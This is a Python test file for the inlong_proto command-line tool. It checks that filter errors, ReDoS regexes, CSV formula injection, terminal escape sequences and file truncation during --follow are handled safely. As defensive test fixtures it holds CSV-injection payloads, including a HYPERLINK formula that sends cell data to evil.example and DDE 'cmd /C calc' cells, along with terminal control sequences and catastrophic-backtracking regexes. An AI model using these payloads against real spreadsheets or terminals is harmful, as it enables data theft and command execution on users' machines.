"""The CLI against hostile input (issue 24, items 14-18): every filter error is one line and exit status 2,
`matches` runs in linear time (RE2), CSV cells cannot become formulas, frame content cannot drive a
terminal, and `decode --follow` notices a truncated, rewritten or replaced file as tail -F does."""
from __future__ import annotations

import csv
import io
import json
import os
import selectors
import signal
import subprocess
import sys
import time
import urllib.parse
from pathlib import Path

import click
import pytest
from click.testing import CliRunner

from inlong_proto.core import frames
from inlong_proto.dataproxy import builders
from inlong_proto.core.plain import printable
from inlong_proto.cli.output import terminal_json
from inlong_proto.cli.commands import main
from inlong_proto.cli.query import MAX_DEPTH, MAX_LENGTH, Filter, QueryError, field_path

CLI = [sys.executable, "-m", "inlong_proto"]
ESCAPES = "\x1b[2J\x1b[31mred\x1b]0;title\x07\x9b31m"  # clear screen, colour, OSC title, C1 CSI
# the recipe's cells: each a formula to a spreadsheet
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1",
            "-2+3+cmd|' /C calc'!A0"]


def cli(*args: str, timeout: float = 60) -> subprocess.CompletedProcess:
    return subprocess.run([*CLI, *args], capture_output=True, text=True, timeout=timeout)


def http_request(topic: str) -> bytes:
    """An EventMesh HTTP publish (MSG_SEND_ASYNC) whose form field topic is `topic`."""
    body = (f"topic={urllib.parse.quote(topic, safe='')}&bizseqno=1&ttl=4000&content=x&uniqueid=1"
            "&producergroup=g").encode()
    head = ("POST / HTTP/1.1\r\ncode: 104\r\nprotocoltype: eventmeshmessage\r\nprotocolversion: 1.0\r\n"
            "Content-Type: application/x-www-form-urlencoded; charset=UTF-8\r\nHost: h\r\n"
            f"Content-Length: {len(body)}\r\n\r\n").encode()
    return head + body


def dataproxy_request(records: list[str], group_id: str = "g") -> bytes:
    message = builders.bin_request([r.encode() for r in records], group_id=group_id, stream_id="s",
                                   data_time_ms=1_700_000_000_000, unique_id=1)
    return frames.encode(message)


def assert_one_error_line(result: subprocess.CompletedProcess, message: str = "") -> None:
    assert result.returncode == 2, result.stderr[-2000:]
    assert result.stdout == ""
    assert result.stderr.count("\n") == 1 and result.stderr.startswith("inlong-proto: error: ")
    assert "Traceback" not in result.stderr and message in result.stderr


# ------------------------------------------------------------------------------ 14. filter crashes
@pytest.fixture(scope="module")
def http_dump(tmp_path_factory) -> Path:
    path = tmp_path_factory.mktemp("http") / "http.bin"
    path.write_bytes(http_request("a" * 29 + "!"))  # the ReDoS recipe's 30-character field
    return path


@pytest.mark.parametrize("args, message", [
    (["-Y", 'offset == -"a"'], "'-' takes a number"),  # was a TypeError traceback
    (["-Y", "offset in (1, -true)"], "'-' takes a number"),
    (["-Y", "not " * 3000 + "offset"], "nested too deeply"),  # was a RecursionError traceback
    (["-Y", "offset == " + "-" * 3000 + "1"], "nested too deeply"),
    (["-Y", "! " * 3000 + "offset"], "nested too deeply"),
    (["-Y", "(" * 3000 + "offset" + ")" * 3000], "cannot parse the filter"),
    (["-Y", "offset == " + "9" * 5000], "cannot parse the filter"),
    (["-Y", " or ".join(["offset == 1"] * 5_000)], f"at most {MAX_LENGTH:,} are read"),
    (["-e", "-" * 3000 + "offset"], "nested too deeply"),  # -e too
    (["-e", "offset" + "[0]" * 3000], "nested too deeply"),
    (["-e", "flow." * 3000 + "client"], "nested too deeply"),
])
def test_filter_and_field_errors_are_one_line_exit_2(http_dump, args, message):
    assert_one_error_line(cli("decode", "-p", "eventmesh-http", *args, str(http_dump)), message)


def test_a_deep_filter_within_the_limit_still_runs(http_dump):
    depth = MAX_DEPTH - 3  # Expression > the nots > Attribute > Name
    result = cli("decode", "-p", "eventmesh-http", "-e", "offset", "-Y", "not " * (depth - 1) + "fields.topic",
                 str(http_dump))
    assert result.returncode == 0 and result.stderr == ""
    assert result.stdout == ("" if (depth - 1) % 2 else '{"offset": 0}\n')


def test_contains_a_number_in_text_is_false_not_a_crash():
    assert Filter("fields.topic contains 5")({"fields": {"topic": "a5"}}) is False  # was a TypeError
    assert Filter('fields.topic contains "5"')({"fields": {"topic": "a5"}}) is True


def test_a_test_failing_on_an_item_is_a_query_error():
    """Evaluation is guarded too: whatever a test raises on some item's values becomes one QueryError."""
    check = Filter("offset > 1")

    def broken(record):
        raise TypeError("'>' not supported")
    check.test = broken
    with pytest.raises(QueryError, match="failed on an item"):
        check({"offset": 2})


def test_field_path_limits():
    with pytest.raises(QueryError, match="too deeply"):
        field_path("a" + "[0]" * (MAX_DEPTH + 1))
    assert field_path("a" + "[0]" * 10).parts == ("a", *[0] * 10)


# ------------------------------------------------------------------------------ 15. ReDoS
HOSTILE_PATTERNS = ("^(a+)+$", "^(a|a)+$", "^(a|aa)+$", "(.*a){12}", "^([a-z]+ ?)*$")


@pytest.fixture
def searches(monkeypatch) -> dict[str, list]:
    """What the filter language hands to each engine: {"re2": [(pattern, text searched)], "re": [patterns Python's
    backtracking re compiled]}. RE2 matches in time linear in the text whatever the pattern; Python's re took
    18.6 s for ^(a+)+$ on one 30-character value. Every public function of re goes through re._compile."""
    import re
    import re2

    seen: dict[str, list] = {"re2": [], "re": []}
    compile_re2, compile_re = re2.compile, re._compile

    class Searched:
        def __init__(self, pattern, regex):
            self.pattern, self.regex = pattern, regex

        def search(self, text, *args):
            seen["re2"].append((self.pattern, text))
            return self.regex.search(text, *args)

    def python_re(pattern, flags):
        seen["re"].append(pattern)
        return compile_re(pattern, flags)

    monkeypatch.setattr(re2, "compile", lambda pattern, *args, **kwargs: Searched(pattern, compile_re2(pattern, *args,
                                                                                                         **kwargs)))
    monkeypatch.setattr(re, "_compile", python_re)
    return seen


def test_matches_searches_with_re2_only(http_dump, searches):
    """decode -Y 'fields.topic matches "^(a+)+$"' over the ReDoS recipe's 30-character field: the field is
    searched by RE2, once, and Python's re never sees the pattern (it backtracked for 18.6 s)."""
    def decode(pattern: str):
        return CliRunner().invoke(main, ["decode", "-p", "eventmesh-http", "-e", "offset", "-Y",
                                         f'fields.topic matches "{pattern}"', str(http_dump)])

    result = decode("^(a+)+$")
    assert result.exit_code == 0 and result.output == "", result.output
    assert searches["re2"] == [("^(a+)+$", b"a" * 29 + b"!")]
    matching = decode("^(a+)+!$")
    assert matching.exit_code == 0 and matching.output == '{"offset": 0}\n'
    assert not {"^(a+)+$", "^(a+)+!$"} & {str(pattern) for pattern in searches["re"]}, searches["re"]


@pytest.mark.timeout(30)  # Python's re would not finish these in a lifetime: a hang, not a slow test
def test_matches_on_long_hostile_values_is_re2_alone(searches):
    values = ("a" * 29 + "!", "a" * 30_000 + "!")
    results = [Filter(f'fields.topic matches "{pattern}"')({"fields": {"topic": value}})
               for pattern in HOSTILE_PATTERNS for value in values]
    assert results == [False] * 6 + [True, True] + [False, False]
    assert searches["re2"] == [(pattern, value.encode()) for pattern in HOSTILE_PATTERNS for value in values]
    assert not set(HOSTILE_PATTERNS) & {str(pattern) for pattern in searches["re"]}


@pytest.mark.parametrize("value, pattern, expected", [
    ("demo_group", "^demo_", True), ("demo_group", "^group", False), ("café", "é$", True),
    ("CAFÉ", "(?i)café", True), ("x\ud800y", "x.y", True), ("a\nb", "^b", False), ("a\nb", "(?m)^b", True),
])
def test_matches_still_matches(value, pattern, expected):
    assert Filter(f"topic matches {pattern!r}")({"topic": value}) is expected


@pytest.mark.parametrize("pattern", ["(a)\\\\1", "(?=a)b", "(?<!a)b", "a{1001}", "(", "a{1000}{1000}"])
def test_a_pattern_re2_refuses_is_one_line_exit_2(http_dump, pattern):
    result = cli("decode", "-p", "eventmesh-http", "-Y", f'fields.topic matches "{pattern}"', str(http_dump))
    assert_one_error_line(result, "bad regular expression")  # RE2 itself logs nothing


# ------------------------------------------------------------------------------ 16. CSV injection
def test_csv_cells_are_neutralised(tmp_path):
    dump = tmp_path / "dp.bin"
    dump.write_bytes(dataproxy_request([*FORMULAS, ESCAPES, "\tx", "-5", "plain"], group_id="@g"))
    result = cli("decode", "-p", "dataproxy", "--records", "-T", "csv", "-e", "record_index", "-e", "group_id",
                 "-e", "data", str(dump))
    assert result.returncode == 0, result.stderr
    assert "\x1b" not in result.stdout and "\x9b" not in result.stdout and "\x07" not in result.stdout
    rows = list(csv.reader(io.StringIO(result.stdout)))
    assert rows[0] == ["record_index", "group_id", "data"]
    assert [row[0] for row in rows[1:]] == [str(n) for n in range(8)]  # numbers stay numbers
    assert all(row[1] == "'@g" for row in rows[1:])
    data = [row[2] for row in rows[1:]]
    assert data[:4] == ["'" + cell for cell in FORMULAS]
    assert data[4] == printable(ESCAPES) == "\\x1b[2J\\x1b[31mred\\x1b]0;title\\x07\\x9b31m"
    assert data[5:] == ["\\tx", "'-5", "plain"]  # text that looks like a number is still text


def test_csv_nested_values_stay_json():
    from inlong_proto.cli.output import Csv

    out = io.StringIO()
    writer = Csv(out, [field_path("attrs"), field_path("n")], ())
    writer.write([{"attrs": {"k": "=1+1\x1b\u202e\U000e0001"}, "n": -2}])
    row = list(csv.reader(io.StringIO(out.getvalue())))[1]
    assert json.loads(row[0]) == {"k": "=1+1\x1b\u202e\U000e0001"} and row[1] == "-2"
    assert row[0].isprintable()


# ------------------------------------------------------------------------------ 17. terminal escapes
@pytest.fixture(scope="module")
def hostile_http(tmp_path_factory) -> Path:
    path = tmp_path_factory.mktemp("esc") / "esc.bin"
    path.write_bytes(http_request(ESCAPES) + http_request("[link=http://evil.example]x[/link][bold]b"))
    return path


def _raw_controls(text: str) -> list[str]:
    return [char for char in text if char != "\n" and (ord(char) < 0x20 or 0x7f <= ord(char) <= 0x9f)]


def test_table_escapes_frame_content(hostile_http):
    result = cli("decode", "-p", "eventmesh-http", "-T", "table", "-e", "fields.topic", "-e", "fields",
                 str(hostile_http))
    assert result.returncode == 0 and not _raw_controls(result.stdout)
    assert "\\x1b[2J\\x1b[31mred\\x1b]0;title\\x07\\x9b31m" in result.stdout
    assert "[link=http://evil.example]x[/link][bold]b" in result.stdout  # shown, not rich markup


def test_table_escapes_on_a_terminal(hostile_http):
    """Under a pseudo-terminal rich writes its own colours; none of the frame's sequences get through."""
    import pty

    pid, fd = pty.fork()
    if pid == 0:
        os.environ["COLUMNS"] = "400"
        os.execv(sys.executable, [*CLI, "decode", "-p", "eventmesh-http", "-T", "table", "-e", "fields.topic",
                                  str(hostile_http)])
    text = b""
    while True:
        try:
            chunk = os.read(fd, 65536)
        except OSError:
            break
        if not chunk:
            break
        text += chunk
    os.waitpid(pid, 0)
    shown = text.decode()
    for sequence in ("\x1b[2J", "\x1b[31m", "\x1b]0;title", "\x07", "\x9b", "\x1b]8;"):  # \x1b]8: a hyperlink
        assert sequence not in shown
    assert "\\x1b[2J" in shown


@pytest.mark.parametrize("output_format", ["jsonl", "json"])
def test_json_escapes_every_control_character(hostile_http, output_format):
    result = cli("decode", "-p", "eventmesh-http", "-T", output_format, "-e", "fields.topic", str(hostile_http))
    assert result.returncode == 0 and not _raw_controls(result.stdout)
    assert "\\u009b31m" in result.stdout  # json leaves C1 (CSI) raw; the writers escape it
    values = ([json.loads(line) for line in result.stdout.splitlines()] if output_format == "jsonl"
              else json.loads(result.stdout))
    assert values[0] == {"fields.topic": ESCAPES}  # the same JSON value


def test_terminal_json_and_printable():
    assert terminal_json({"t": ESCAPES + "\x7f é"}) == '{"t": "\\u001b[2J\\u001b[31mred\\u001b]0;title\\u0007' \
                                                      '\\u009b31m\\u007f é"}'
    assert printable("é 😀 \\ ' \"") == "é 😀 \\ ' \""  # printable text unchanged
    assert printable("\u202eevil\n") == "\\u202eevil\\n"  # bidi override and line breaks escaped


def test_inspect_escapes_frame_content(hostile_http):
    result = subprocess.run([*CLI, "inspect", "-p", "eventmesh-http", str(hostile_http)], capture_output=True,
                            text=True)
    assert result.returncode == 0 and not _raw_controls(result.stdout)


def test_the_clients_print_received_content_escaped():
    """The eventmesh and tubemq client commands print what they receive through terminal_json."""
    from inlong_proto.cli import eventmesh as eventmesh_cli
    from inlong_proto.cli import tubemq as tubemq_cli

    assert eventmesh_cli.terminal_json is terminal_json and tubemq_cli.terminal_json is terminal_json
    show = click.command()(lambda: eventmesh_cli._echo_json({"content": ESCAPES}))
    out = CliRunner().invoke(show).output
    assert not _raw_controls(out) and json.loads(out) == {"content": ESCAPES}


def test_error_lines_are_escaped(capsys):
    """An error may quote frame content (most quote it by repr already); the line is escaped whatever it holds."""
    from inlong_proto.cli.failure import echo
    from inlong_proto.core.errors import InlongProtoError

    echo(InlongProtoError(f"bad topic {ESCAPES}"))
    assert capsys.readouterr().err == f"inlong-proto: error: bad topic {printable(ESCAPES)}\n"


# ------------------------------------------------------------------------------ 18. --follow
def _follower(path: Path) -> subprocess.Popen:
    return subprocess.Popen([*CLI, "decode", "-p", "dataproxy", "-e", "offset", "-e", "payload.records", "--follow",
                             str(path)], stdout=subprocess.PIPE, stderr=subprocess.PIPE, bufsize=0,
                            preexec_fn=lambda: signal.signal(signal.SIGINT, signal.SIG_DFL))


def _read_until(process: subprocess.Popen, lines: int, notices: int = 0, timeout: float = 20.0):
    """The next `lines` JSON lines of stdout and `notices` lines of stderr, failing if they do not come in time."""
    selector = selectors.DefaultSelector()
    selector.register(process.stdout, selectors.EVENT_READ, "out")
    selector.register(process.stderr, selectors.EVENT_READ, "err")
    out, err, deadline = [], [], time.monotonic() + timeout
    while len(out) < lines or len(err) < notices:
        ready = selector.select(max(0.0, deadline - time.monotonic()))
        assert ready, f"only {len(out)} of {lines} lines and {err} came"
        for key, _ in ready:
            line = key.fileobj.readline()
            assert line, "the output ended"
            (out if key.data == "out" else err).append(json.loads(line) if key.data == "out" else line.decode())
    return out, err


def _frames(tag: str, count: int) -> list[bytes]:
    return [dataproxy_request([f"{tag}-{n}"]) for n in range(count)]


def _records(lines: list[dict]) -> list[str]:
    return [line["payload.records"][0]["data"] for line in lines]


@pytest.mark.parametrize("how", ["truncate, wait, rewrite", "truncate and rewrite at once", "rotate"])
def test_follow_reads_a_truncated_or_replaced_file_again(tmp_path, how):
    """The recipe: 8 frames followed, then the file truncated and 24 frames written; 8 of the 24 never
    came out. Now a notice (one line, as tail -F gives) and all 24, offsets from 0."""
    path = tmp_path / "dump.bin"
    old, new = _frames("old", 8), _frames("new", 24)
    path.write_bytes(b"".join(old))
    process = _follower(path)
    try:
        out, _ = _read_until(process, 8)
        assert _records(out) == [f"old-{n}" for n in range(8)]
        if how == "rotate":
            path.rename(tmp_path / "dump.bin.1")
            path.write_bytes(b"".join(new))
            expected = "has been replaced; following new file from its start (offsets restart at 0)"
        else:
            with open(path, "wb") as handle:  # truncated
                if how == "truncate, wait, rewrite":
                    handle.flush()
                    _read_until(process, 0, notices=1)
                    with pytest.raises(AssertionError):  # said once, not at every look
                        _read_until(process, 0, notices=1, timeout=1.0)
                handle.write(b"".join(new))
            expected = "file truncated; reading it again from the start (offsets restart at 0)"
        out, err = _read_until(process, 24, notices=0 if how == "truncate, wait, rewrite" else 1)
        assert _records(out) == [f"new-{n}" for n in range(24)]
        assert out[0]["offset"] == 0 and [line["offset"] for line in out] == sorted(line["offset"] for line in out)
        if err:
            assert err == [f"inlong-proto: {path}: {expected}\n"]
        process.send_signal(signal.SIGINT)
        process.wait(timeout=15)
        assert b"Traceback" not in process.stderr.read()
    finally:
        process.kill()


def test_follow_waits_for_a_removed_file_to_come_back(tmp_path):
    path = tmp_path / "dump.bin"
    path.write_bytes(b"".join(_frames("old", 2)))
    process = _follower(path)
    try:
        _read_until(process, 2)
        path.unlink()
        _, err = _read_until(process, 0, notices=1)
        assert err == [f"inlong-proto: {path}: has become inaccessible (No such file or directory); "
                       "waiting for it to reappear\n"]
        path.write_bytes(b"".join(_frames("new", 3)))
        out, err = _read_until(process, 3, notices=1)
        assert _records(out) == ["new-0", "new-1", "new-2"] and "has been replaced" in err[0]
    finally:
        process.kill()


def test_follow_of_a_file_that_only_grows_says_nothing(tmp_path):
    path = tmp_path / "dump.bin"
    frames_ = _frames("n", 6)
    path.write_bytes(frames_[0])
    process = _follower(path)
    try:
        _read_until(process, 1)
        for frame in frames_[1:]:
            with open(path, "ab") as handle:
                handle.write(frame)
            time.sleep(0.3)  # a look at the file between appends
        out, _ = _read_until(process, 5)
        assert _records(out) == [f"n-{n}" for n in range(1, 6)]
        process.send_signal(signal.SIGINT)
        process.wait(timeout=15)
        assert b"inlong-proto:" not in process.stderr.read()
    finally:
        process.kill()


def test_log_lines_escape_peer_text(capsys):
    """A peer's text in a server's log line (a topic, a url, its error) cannot drive the terminal."""
    import logging

    from inlong_proto.endpoints.common import setup_logging

    root = logging.getLogger()
    kept = root.handlers[:]
    root.handlers.clear()
    try:
        setup_logging("info")
        logging.getLogger("inlong_proto.test").warning("topic %s", "a\x1b[2Jb\x9b31m")
        root.handlers[0].flush()
    finally:
        root.handlers[:] = kept
    err = capsys.readouterr().err
    assert "\x1b" not in err and "\x9b" not in err and "a\\x1b[2Jb\\x9b31m" in err
